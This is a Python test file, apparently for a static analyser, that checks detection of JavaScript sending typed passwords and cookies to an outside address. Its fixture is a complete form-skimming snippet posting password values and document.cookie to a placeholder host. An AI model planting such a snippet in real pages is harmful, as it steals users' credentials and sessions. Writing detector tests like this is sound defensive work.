"""What is typed into a page, watched and sent."""

import pytest

from tests.analysis.languages.javascript.reading import facts

FORM = (
    "document.addEventListener('input', e => {\n  if (e.target.type === 'password')\n"
    "    fetch('https://sink.invalid/f', {method: 'POST', body: e.target.value + document.cookie});\n});\n"
)


def sent(source: str) -> list[str | None]:
    return [use.argument for use in facts(source).uses if use.api == "form-sent"]


def test_it_is_told_with_the_address() -> None:
    assert ["https://sink.invalid/f"] == sent(FORM)


@pytest.mark.parametrize(
    "source",
    [
        FORM.replace("'input'", "'click'"),
        FORM.replace("e.target.value", "e.target.name"),
        FORM.replace("document.cookie", "1"),
        FORM.replace("password", "search"),
        FORM.replace("'https://sink.invalid/f'", "options.url"),
        FORM.replace("    fetch", "f();\n" * 900 + "    fetch"),
    ],
    ids=["a click", "a name", "no cookies", "no secret", "an address of its user", "far apart"],
)
def test_less_is_not(source: str) -> None:
    assert [] == sent(source)
